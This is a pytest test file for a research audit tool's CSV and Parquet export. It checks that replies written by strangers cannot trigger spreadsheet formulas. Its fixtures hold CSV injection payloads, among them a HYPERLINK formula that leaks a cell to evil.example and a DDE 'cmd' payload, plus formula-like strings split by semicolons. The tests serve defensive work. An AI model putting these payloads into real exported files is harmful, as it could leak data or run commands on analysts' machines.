"""Exports an analyst opens: the tidy tables and their codebook, CSV or Parquet, and cells no spreadsheet runs.

Replies here go through the real pipeline (send, ingest, understand), and their words are ones strangers write:
a formula, a phone number, a mention, a tab or a carriage return first.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import sys
from datetime import timedelta

import pytest
from typer.testing import CliRunner

from audit.cli.app import app
from audit.errors import AuditError
from audit.export.csvsafe import cell, neutralise, writer
from audit.export.results_csv import EXPORT_COLUMNS
from audit.export.tables import TABLES, TYPES, codebook, codebook_markdown, columns, write_tables
from tests.helpers.pipeline import sent_wave, store_replies
from tests.helpers.studies import LATE, ROOT

runner = CliRunner()
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+7 495 123-45-67 звоните", "@support в телеграме",
           "\tРаботаем до 20:00", "\rНапишите на почту", "-1 день до конца акции", "'=already quoted"]
# a Russian-locale spreadsheet splits a line on ";" whatever the quoting: the part after it must not start a formula
SEMICOLON = ["Имя;=cmd|' /C calc'!A0", "Тариф; +7 495 000-00-00", "ok;; @SUM(1)"]


@pytest.fixture
def hostile(tmp_path):
    """Three sent probes; each gets answers whose words and subjects begin like formulas. The texts that
    understanding trims (a leading tab or CR) are then stored as a channel could store them."""
    pipe = sent_wave(tmp_path)
    sent = pipe.probes(status="sent")
    msgs = []
    for i, text in enumerate(HOSTILE + SEMICOLON):
        p = sent[i % len(sent)]
        raw = (f"From: s@{p.contact.split('@')[1]}\r\nSubject: {'@SUM(1+1)' if i == 0 else 'Re: ' + p.subject}\r\n"
               f"In-Reply-To: {p.message_id}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n").encode()
        msgs.append((p.sent_at + timedelta(minutes=10 * (i + 1)), raw))
    store_replies(pipe, msgs)
    with sqlite3.connect(tmp_path / "a.db") as conn:
        for rid, text in conn.execute("SELECT id, text FROM reply ORDER BY id").fetchall():
            want = (HOSTILE + SEMICOLON)[rid - 1]
            if text != want:  # trimmed by understanding: store the stranger's exact words
                conn.execute("UPDATE reply SET text = ? WHERE id = ?", (want, rid))
    return pipe.study_path, tmp_path / "a.db", pipe


def _csv(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _safe(text: str) -> bool:
    """No cell, nor any part of one a `;`-splitting spreadsheet makes a cell, starts a formula."""
    return all(not part.lstrip(" ") or part.lstrip(" ")[0] not in "=+-@\t\r" for part in text.split(";")) and (
        not text or text[0] not in "=+-@\t\r")


def test_the_rule_follows_the_column_type():
    assert [neutralise(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    assert neutralise("Работаем до 20:00") == "Работаем до 20:00" and neutralise("") == ""
    assert neutralise("-1") == "'-1" and neutralise("+74951234567") == "'+74951234567"  # text that looks numeric
    assert neutralise("\t1") == "'\t1"  # float("\t1") is 1.0: a test by parsing would let this through
    assert (cell(-3.5), cell(-2), cell(True), cell(None)) == (-3.5, -2, 1, "")  # numbers stay numbers
    out = io.StringIO()
    writer(out).writerows([["=1+1", -1.5, 3, None, "ok"]])
    assert out.getvalue() == "'=1+1,-1.5,3,,ok\r\n"
    for t in HOSTILE:  # reversible: drop one leading '
        assert neutralise(t)[1:] == t
    import re as _re

    for t in SEMICOLON:  # ...and one ' after a ";" that a formula character follows
        assert _safe(neutralise(t)) and not _safe(t)
        assert _re.sub(r";(\s*)'", r";\1", neutralise(t)) == t


def test_every_csv_neutralises_hostile_replies_and_keeps_numbers(hostile, tmp_path):
    study, db, pipe = hostile
    out = tmp_path / "out.csv"
    result = runner.invoke(app, ["export", str(study), "--db", str(db), "--csv", str(out), "--tables",
                                 str(tmp_path / "t")])
    assert result.exit_code == 0, result.output
    rows = _csv(out)
    answered = [r for r in rows if r["answer_text"]]
    assert len(answered) == 3
    assert {r["answer_text"] for r in answered} == {"'" + t for t in HOSTILE[:3]}
    assert any(r["answer_subject"] == "'@SUM(1+1)" for r in rows)
    for r in rows:
        assert all(_safe(v) for v in r.values()), r
    assert all(float(r["response_seconds"]) > 0 for r in answered)  # numbers, not text
    assert all(r["score"] == "" or 0 <= float(r["score"]) <= 4 for r in rows)

    replies = _csv(tmp_path / "t" / "replies.csv")
    assert [r["text"] for r in replies] == ["'" + t for t in HOSTILE] + [neutralise(t) for t in SEMICOLON]
    for name in ("probes", "replies", "scores", "companies", "codebook"):
        for r in _csv(tmp_path / "t" / f"{name}.csv"):
            assert all(_safe(v) for v in r.values()), (name, r)
    assert all(float(r["calendar_seconds"]) > 0 for r in replies)
    assert [r["is_answer"] for r in replies] == ["1", "1", "1"] + ["0"] * (len(HOSTILE + SEMICOLON) - 3)
    scores = _csv(tmp_path / "t" / "scores.csv")
    assert {r["rater"] for r in scores} == {"auto"} and all(r["score"] in "01234" for r in scores)


def test_tables_follow_the_codebook_and_join(hostile, tmp_path):
    study, db, pipe = hostile
    from audit.people.review import record_score

    answer = pipe.store.execute("SELECT answer_reply_id FROM probe WHERE answer_reply_id IS NOT NULL")[0][0]
    record_score(pipe.store, answer, "anna", 1, pipe.clock)
    counts = write_tables(pipe.store, pipe.study, tmp_path / "t", now=LATE + timedelta(days=30))
    n = len(HOSTILE + SEMICOLON)
    assert counts == {"probes": 4, "replies": n, "scores": n + 1, "companies": 4}
    book = codebook()
    for table, cols in columns().items():
        with open(tmp_path / "t" / f"{table}.csv", encoding="utf-8", newline="") as fh:
            assert next(csv.reader(fh)) == [c.name for c in cols] == [name for name, _, _ in book[table]]
        assert all(c.type in TYPES and c.meaning for c in cols)
    probes = {r["probe_id"]: r for r in _csv(tmp_path / "t" / "probes.csv")}
    replies = {r["reply_id"]: r for r in _csv(tmp_path / "t" / "replies.csv")}
    scores = _csv(tmp_path / "t" / "scores.csv")
    for r in replies.values():
        assert r["probe_id"] in probes
    scored = probes[replies[str(answer)]["probe_id"]]
    assert (scored["score"], scored["score_by"], scored["answered"]) == ("1.0", "people (1)", "1")
    assert {(s["rater"], s["automatic"]) for s in scores if s["reply_id"] == str(answer)} == {("auto", "1"),
                                                                                             ("anna", "0")}
    unsent = [p for p in probes.values() if p["status"] != "sent"]
    assert [(p["answered"], p["score"]) for p in unsent] == [("", "")]
    codebook_rows = _csv(tmp_path / "t" / "codebook.csv")
    assert {(r["table"], r["column"]) for r in codebook_rows} == {(t, c) for t, cs in book.items() for c, _, _ in cs}
    assert (tmp_path / "t" / "codebook.md").read_text(encoding="utf-8").count("| `probe_id` |") == 3


def test_parquet_keeps_types_and_the_exact_words(hostile, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    study, db, pipe = hostile
    result = runner.invoke(app, ["export", str(study), "--db", str(db), "--tables", str(tmp_path / "p"),
                                 "--parquet"])
    assert result.exit_code == 0, result.output
    replies = pq.read_table(tmp_path / "p" / "replies.parquet")
    assert replies.column("text").to_pylist() == HOSTILE + SEMICOLON  # typed files are not spreadsheets: nothing added
    schema = pq.read_table(tmp_path / "p" / "probes.parquet").schema
    want = {"integer": "int64", "number": "double", "text": "string", "boolean": "bool",
            "time": "timestamp[us, tz=UTC]"}
    assert [(f.name, str(f.type)) for f in schema] == [(c.name, want[c.type]) for c in TABLES["probes"]]
    assert b"description" in schema.field("score").metadata
    sent = pq.read_table(tmp_path / "p" / "probes.parquet").column("sent_at").to_pylist()
    assert all(t is None or t.utcoffset() == timedelta(0) for t in sent) and any(sent)
    assert not list((tmp_path / "p").glob("*.part"))


def test_an_export_changes_nothing_collected(hostile, tmp_path):
    study, db, _ = hostile

    def dump():
        with sqlite3.connect(db) as conn:
            return list(conn.iterdump())

    before = dump()
    for args in (["--csv", str(tmp_path / "o.csv")], ["--tables", str(tmp_path / "t")]):
        assert runner.invoke(app, ["export", str(study), "--db", str(db), *args]).exit_code == 0
    assert dump() == before


def test_bad_places_and_a_missing_pyarrow_are_plain_errors(hostile, tmp_path, monkeypatch):
    study, db, pipe = hostile
    afile = tmp_path / "file.txt"
    afile.write_text("x")
    for target, words in ((afile, "is a file, not a directory"), (afile / "sub", "cannot create the directory")):
        result = runner.invoke(app, ["export", str(study), "--db", str(db), "--tables", str(target)])
        assert result.exit_code == 1 and words in result.output and "→" in result.output, result.output
    assert runner.invoke(app, ["export", str(study), "--db", str(db)]).exit_code == 1
    assert "--tables" in runner.invoke(app, ["export", str(study), "--db", str(db), "--parquet"]).output
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # as if not installed
    with pytest.raises(AuditError, match="pyarrow") as err:
        write_tables(pipe.store, pipe.study, tmp_path / "t", parquet=True)
    assert "pip install 'audit[parquet]'" in err.value.hint
    assert not (tmp_path / "t").exists()  # failed before writing anything


def test_readme_documents_every_table_column_from_the_codebook():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert codebook_markdown() in readme, (
        "README.md's tidy tables section is not the codebook: paste the output of "
        ".venv/bin/python -c 'from audit.export.tables import codebook_markdown; print(codebook_markdown(), end=\"\")'")
    for name, _ in EXPORT_COLUMNS:
        assert f"| `{name}` |" in readme
    for words in ("--tables", "--parquet", "codebook", "audit[parquet]", "bench/report.py"):
        assert words in readme, words


def test_bench_generator_and_exports_run_at_a_small_size(tmp_path):
    from tests.helpers.bench import load_bench

    bench = load_bench("report")

    study, db, counts = bench.generate(tmp_path, 200)
    assert counts["probe"] == 200 and counts["reply"] > 0 and counts["score"] >= counts["reply"]
    seconds, rss, _ = bench.run_cli(["export", str(study), "--db", str(db), "--csv", str(tmp_path / "o.csv"),
                                     "--tables", str(tmp_path / "t")], tmp_path)
    assert seconds > 0 and rss > 0
    rows = _csv(tmp_path / "o.csv")
    assert len(rows) == 200 and any(r["answer_text"].startswith("'=HYPERLINK") for r in rows)
    assert len(_csv(tmp_path / "t" / "replies.csv")) == counts["reply"]
    if bench.shutil.which("sqlite3"):
        assert bench.sqlite3_floor(db, tmp_path / "floor.csv") > 0
        assert len(_csv(tmp_path / "floor.csv")) == 200


def test_a_split_export_writes_the_same_bytes(hostile, monkeypatch):
    from audit.export import results_csv as results

    study, db, pipe = hostile
    outputs = []
    for split in (False, True):
        monkeypatch.setattr(results, "SPLIT_MIN", 1)  # the second process even for four probes
        out = io.StringIO()
        assert results.export_csv(pipe.store, pipe.study, out, now=LATE, split=split) == 4
        outputs.append(out.getvalue())
    assert outputs[0] == outputs[1] and outputs[0].count("\r\n") == 5
